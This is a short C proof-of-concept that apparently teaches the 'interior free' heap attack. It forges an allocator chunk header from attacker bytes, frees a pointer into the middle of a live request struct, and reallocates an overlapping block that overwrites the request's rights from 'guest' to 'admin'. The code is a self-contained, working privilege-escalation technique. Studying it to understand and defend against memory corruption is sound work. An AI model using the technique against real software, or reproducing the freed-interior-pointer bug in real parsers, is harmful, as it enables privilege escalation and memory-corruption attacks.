// Interior free: a pointer into the middle of a block is freed.
//
// A parser walks over a message with the pointer it got from malloc, and frees it where it stopped. The message, which
// the attacker sent, holds at that place what the allocator expects to find before a block.
// The attacker gains: the tail of a live block is handed out a second time, with the account's rights in it.
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct request_s {
  char header[16];
  char body[64];
  char rights[16];
} request_t;

static request_t* volatile request;

int main(void) {
  request = malloc(sizeof(request_t));
  strcpy(request->rights, "guest");
  uint64_t sent[] = {0, 0x51};  // the attacker's bytes
  memcpy(request->header, sent, sizeof(sent));

  char* parser = (char*)request;
  while (parser < request->body) parser++;
  free(parser);  // bug: not the pointer malloc gave

  char* reply = malloc(72);
  memset(reply, 0, 72);
  strcpy(reply + 64, "admin");

  if (strcmp(request->rights, "guest") == 0) {
    puts("attack failed: the rights are still those of a guest");
    return 1;
  }
  printf("ATTACK SUCCEEDED: a block at %p inside of the live request at %p; its rights are now \"%s\"\n", (void*)reply,
         (void*)request, request->rights);
  return 0;
}
